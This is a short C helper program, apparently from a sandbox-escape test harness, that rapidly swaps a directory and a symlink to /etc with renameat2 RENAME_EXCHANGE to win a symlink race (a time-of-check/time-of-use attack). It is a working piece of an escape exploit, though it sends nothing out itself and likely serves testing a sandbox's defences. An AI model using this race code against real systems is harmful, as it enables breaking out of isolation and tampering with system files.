/* Host helper for the escape race (runs natively, not under umlts): swap
 * DIR/flip (a directory) and DIR/alt (a symlink to /etc) with
 * RENAME_EXCHANGE as fast as possible for MS milliseconds. usage: fh_flipper DIR MS */
#include "common.h"
#include <fcntl.h>
#include <stdlib.h>
#include <time.h>
#include <sys/stat.h>

int main(int argc, char **argv) {
  if (argc < 3 || chdir(argv[1]) < 0) return 2;
  long ms = atol(argv[2]), flips = 0;
  struct timespec t0, t;
  clock_gettime(CLOCK_MONOTONIC, &t0);
  do {
    for (int i = 0; i < 256; i++) {
      if (renameat2(AT_FDCWD, "alt", AT_FDCWD, "flip", RENAME_EXCHANGE) == 0) flips++;
    }
    clock_gettime(CLOCK_MONOTONIC, &t);
  } while ((t.tv_sec - t0.tv_sec) * 1000 + (t.tv_nsec - t0.tv_nsec) / 1000000 < ms);
  /* leave flip a directory */
  struct stat st;
  if (lstat("flip", &st) == 0 && S_ISLNK(st.st_mode)) renameat2(AT_FDCWD, "alt", AT_FDCWD, "flip", RENAME_EXCHANGE);
  say("%ld flips\n", flips);
  return 0;
}
